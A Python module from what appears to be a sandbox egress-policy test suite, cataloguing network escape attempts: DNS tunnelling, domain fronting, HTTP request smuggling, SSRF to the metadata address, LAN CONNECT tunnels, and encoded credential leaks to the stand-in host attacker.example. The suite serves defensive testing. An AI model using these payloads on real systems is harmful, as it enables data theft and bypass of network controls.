"""Attempts that need the lab's internet: names, TLS and HTTP."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from netns.escapes.attempt import Attempt, Event

_BLOCK, _PACKET = Event.BLOCK, Event.PACKET
_SITE, _OTHER = "api.example.com", "attacker.example"
_CLOSE = "Connection: close\r\n\r\n"


def _get(host: str, target: str = "/get?n=NONCE", *more: str) -> str:
    lines = (f"GET {target} HTTP/1.1", f"Host: {host}", *more)
    return "\r\n".join(lines) + f"\r\n{_CLOSE}"


def _post(host: str, *more: str) -> str:
    """The head of a request whose body the program adds."""
    lines = ("POST /upload?n=NONCE HTTP/1.1", f"Host: {host}", "Connection: close", *more)
    return "".join(f"{line}\r\n" for line in lines)


def _web(row: int, id: str, title: str, text: str, **more: Any) -> Attempt:
    keys = ("event", "rights", "seconds")
    given = {key: more.pop(key) for key in keys if key in more}
    program = more.pop("program", "web.say")
    args = {"dial": _SITE, "text": text, **more}
    return Attempt(id=id, row=row, title=title, program=program, args=args,
                   **({"event": _BLOCK} | given))  # fmt: skip


def _leak(row: int, id: str, title: str, **more: Any) -> Attempt:
    return _web(row, id, title, _post(_OTHER), dial=_OTHER, **more)


def _dns(row: int, id: str, title: str, event: Event = Event.NONE, **args: Any) -> Attempt:
    return Attempt(id=id, row=row, title=title, program="services.dns", args=args, event=event)


_HIDDEN = "POST /upload HTTP/1.1\r\nHost: api.example.com\r\n"
_INNER = _get(_OTHER)

_NAMES = (
    _dns(9, "dns", "a name that carries the message"),
    Attempt(id="getaddrinfo", row=9, title="the same through the C library",
            program="services.resolve"),
    *(_dns(10, f"dns-{kind.lower()}", f"DNS query of type {kind}", type=kind)
      for kind in ("TXT", "NULL", "ANY", "HTTPS", "MX")),
    _dns(10, "dns-edns", "DNS query with a message in EDNS", edns=True),
    _dns(10, "dns-tcp", "DNS over TCP", tcp=True),
    _dns(10, "dns-other", "another resolver", server="resolver4", type="TXT"),
    _dns(10, "dns-other6", "another resolver, IPv6", server="resolver6", type="TXT"),
    _dns(10, "dns-other-tcp", "another resolver, TCP", server="resolver4", tcp=True),
    _dns(10, "dns-odd-port", "DNS on an odd port", _PACKET, server="public4", port=5300),
)  # fmt: skip

_IDENTITY = (
    _web(11, "doh", "DNS over HTTPS by its media type",
         "POST /dns-query?n=NONCE HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n"
         "Content-Type: application/dns-message\r\nContent-Length: 4\r\n\r\nabcd", tls=True),
    _web(12, "front-host", "SNI of one site, Host of another", _get(_OTHER), tls=True),
    _web(12, "front-sni", "leased name of one site, SNI of another", _get(_SITE), tls=True,
         sni=_OTHER),
    _web(12, "front-absolute", "absolute form of another site",
         f"GET http://{_OTHER}/get?n=NONCE HTTP/1.1\r\nHost: {_SITE}\r\n{_CLOSE}"),
    _web(12, "front-plain", "Host of another site, plain HTTP", _get(_OTHER)),
    _web(13, "no-sni", "an address without a name and no SNI, the secret inside",
         _post("11.22.33.66"), dial="@attacker4", tls=True, sni="", form="plain"),
    Attempt(id="sni-message", row=13, title="a message in the SNI to an address",
            program="web.named_hello",
            args={"dial": "@public4", "sni": "NONCE.attacker.example"}),
    Attempt(id="sni-mismatch", row=13, title="a message in the SNI to a leased name",
            program="web.named_hello", args={"dial": _SITE, "sni": "NONCE.attacker.example"},
            event=_BLOCK),
    Attempt(id="ech", row=14, title="a message in Encrypted Client Hello",
            program="web.encrypted_hello", args={"dial": _SITE}),
    Attempt(id="session-id", row=14, title="a message in the session id",
            program="web.session_hello", args={"dial": _SITE}),
    _web(15, "reuse", "a second request for another site on one connection",
         f"GET /get HTTP/1.1\r\nHost: {_SITE}\r\n\r\n", tls=True, then=[_get(_OTHER)]),
    Attempt(id="coalesce", row=15, title="an HTTP/2 stream for another site",
            program="web.coalesced",
            args={"dial": "h2.example.com", "other": _OTHER, "tls": True, "alpn": ["h2"]},
            event=_BLOCK),
)  # fmt: skip

_SMUGGLING = (
    _web(16, "cl-te", "Content-Length and Transfer-Encoding",
         f"{_HIDDEN}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{_INNER}"),
    _web(16, "two-lengths", "two lengths of a body",
         f"{_HIDDEN}Content-Length: 0\r\nContent-Length: 5\r\n\r\n{_INNER}"),
    _web(16, "folded", "a folded Transfer-Encoding",
         f"{_HIDDEN}Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n\r\n{_INNER}"),
    _web(16, "bare-lf", "bare line feeds",
         f"GET /get?n=NONCE HTTP/1.1\nHost: {_SITE}\nX: y\n\n"),
    _web(16, "two-hosts", "two Host lines",
         f"GET /get?n=NONCE HTTP/1.1\r\nHost: {_SITE}\r\nHost: {_OTHER}\r\n{_CLOSE}"),
    _web(16, "te-obscure", "an obscure Transfer-Encoding",
         f"{_HIDDEN}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{_INNER}"),
    _web(16, "space-before-colon", "a blank before the colon",
         f"{_HIDDEN}Content-Length : 5\r\n\r\n{_INNER}"),
    _web(16, "chunk-extension", "a message in a chunk extension",
         f"{_HIDDEN}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
         "1;n=NONCE\r\na\r\n0\r\n\r\n", event=Event.NONE),
    _web(16, "nul-in-field", "a NUL in a field",
         f"GET /get?n=NONCE HTTP/1.1\r\nHost: {_SITE}\r\nX-A: b\0c\r\n{_CLOSE}"),
    _web(17, "upgrade-early", "bytes of a tunnel before any 101",
         f"GET /get HTTP/1.1\r\nHost: {_SITE}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
         "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\nNONCE",
         event=Event.NONE),
    _web(17, "h2c", "HTTP/2 by upgrade",
         f"GET /get HTTP/1.1\r\nHost: {_SITE}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
         "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
         "NONCE"),
    _web(17, "other-upgrade", "an upgrade to another protocol",
         f"GET /get HTTP/1.1\r\nHost: {_SITE}\r\nConnection: Upgrade\r\nUpgrade: tunnel\r\n\r\n"
         "NONCE"),
    _web(18, "connect-other", "CONNECT to another site through a site",
         f"CONNECT {_OTHER}:4444 HTTP/1.1\r\nHost: {_OTHER}:4444\r\n\r\n", then=["NONCE\r\n"]),
    _web(18, "connect-inward", "CONNECT to the LAN through a site",
         "CONNECT 10.0.0.5:22 HTTP/1.1\r\nHost: 10.0.0.5:22\r\n\r\n", then=["NONCE\r\n"]),
    _web(18, "connect-proxy-port", "a proxy on port 3128",
         f"CONNECT {_OTHER}:443 HTTP/1.1\r\nHost: {_OTHER}\r\n\r\nNONCE", dial="@public4",
         port=3128),
    _web(18, "socks", "SOCKS5 on port 1080", "\x05\x01\x00NONCE", dial="@public4", port=1080),
)  # fmt: skip

_INWARD = (
    _web(21, "metadata-name", "a name that leads to the metadata service",
         _get("metadata.inward.example"), dial="metadata.inward.example"),
    _web(21, "metadata-decimal", "the metadata service by a decimal address",
         _get("2852039166"), dial="2852039166"),
    _web(21, "metadata-mapped", "the metadata service, IPv4 in IPv6",
         _get("[::ffff:169.254.169.254]"), dial="::ffff:169.254.169.254"),
    _web(22, "lan-name", "a name that leads into the LAN", _get("lan.inward.example"),
         dial="lan.inward.example"),
    _web(22, "lan-octal", "the LAN by an octal address", _get("012.0.0.5"), dial="012.0.0.5"),
    _web(23, "one-bad-address", "a name with one bad address", _get("mixed-last.inward.example"),
         dial="mixed-last.inward.example"),
    _web(23, "cname-inward", "an alias of a name of the LAN", _get("cname.inward.example"),
         dial="cname.inward.example"),
    _web(24, "loopback-name", "a name that leads to the host's 127.0.0.1",
         _get("loopback.inward.example:8080"), dial="loopback.inward.example", port=8080),
    _web(24, "loopback-own", "127.0.0.1 of the host by another spelling",
         _get("127.1:8080"), dial="127.1", port=8080, event=Event.NONE),
)  # fmt: skip

_CONTENT = (
    _web(35, "pinned", "a client that pins the server's authority", _get(_SITE), tls=True,
         pinned=True, event=Event.NONE),
    _web(39, "path-encoded", "an encoded path to what the policy denies",
         _get("files.example.com", "/%70rivate/a?n=NONCE"), dial="files.example.com"),
    _web(39, "path-dots", "dots in a path to what the policy denies",
         _get("files.example.com", "/public/../private/a?n=NONCE"), dial="files.example.com"),
    _web(39, "path-encoded-slash", "an encoded slash in a path",
         _get("files.example.com", "/public/..%2fprivate?n=NONCE"), dial="files.example.com"),
    _web(39, "host-dot", "a denied host with a dot at its end", _get("denied.example.com."),
         dial="denied.example.com."),
    _web(39, "host-case", "a denied host in capitals", _get("DENIED.EXAMPLE.COM"),
         dial="DENIED.EXAMPLE.COM"),
    *(_leak(40, f"leak-{form}", f"a credential in a body, {form}", form=form)
      for form in ("plain", "gzip", "gzip-twice", "zip", "base64", "base64-hex", "utf-16",
                   "reversed")),
    _web(40, "bomb", "a credential at the end of a bomb",
         _post(_OTHER, "Content-Encoding: gzip"), dial=_OTHER, program="web.bomb", seconds=15.0),
    _web(41, "chunks", "a credential cut over chunks",
         _post(_OTHER, "Transfer-Encoding: chunked") + "\r\n", dial=_OTHER, program="web.chunked"),
    _web(41, "fields", "a credential cut over two fields",
         f"GET /get?n=NONCE HTTP/1.1\r\nHost: {_OTHER}\r\nX-A: PLANTED\r\n{_CLOSE}", dial=_OTHER),
    _web(41, "over-requests", "a credential cut over requests", "", dial=_OTHER,
         program="web.over_requests"),
    _web(41, "slowly", "a credential a few bytes at a time",
         _get(_OTHER, "/get?n=NONCE&k=PLANTED"), dial=_OTHER, program="web.slowly"),
    _web(42, "known", "a known secret to a foreign host",
         _get(_OTHER, "/get?n=NONCE", "X-Note: KNOWN"), dial=_OTHER),
    _web(43, "drop-box", "an upload where the policy allows reading only",
         "PUT /box/NONCE HTTP/1.1\r\nHost: files.example.com\r\nConnection: close\r\n"
         "Content-Length: 2\r\n\r\nhi", dial="files.example.com"),
    _web(47, "log-newline", "a line break for the log in a name",
         _get(_OTHER, "/get?n=NONCE", "X-A: \x1b]0;title\x07\x1b[2J", "X-B: PLANTED"),
         dial=_OTHER),
    _web(50, "slow-crowd", "a leak behind 300 slow connections",
         _get(_OTHER, "/get?n=NONCE&k=PLANTED"), dial=_OTHER, program="web.crowd", seconds=20.0),
    _web(50, "many-fields", "a leak behind a thousand fields",
         _get(_OTHER, "/get?n=NONCE", *(f"X-{i}: {i}" for i in range(1000))), dial=_OTHER),
    _web(50, "long-field", "a leak in a field of a megabyte",
         _get(_OTHER, "/get?n=NONCE", f"X-A: {'a' * 1_000_000}"), dial=_OTHER),
)  # fmt: skip


def in_the_lab() -> Iterator[Attempt]:
    """Every attempt that needs the lab."""
    yield from (*_NAMES, *_IDENTITY, *_SMUGGLING, *_INWARD, *_CONTENT)
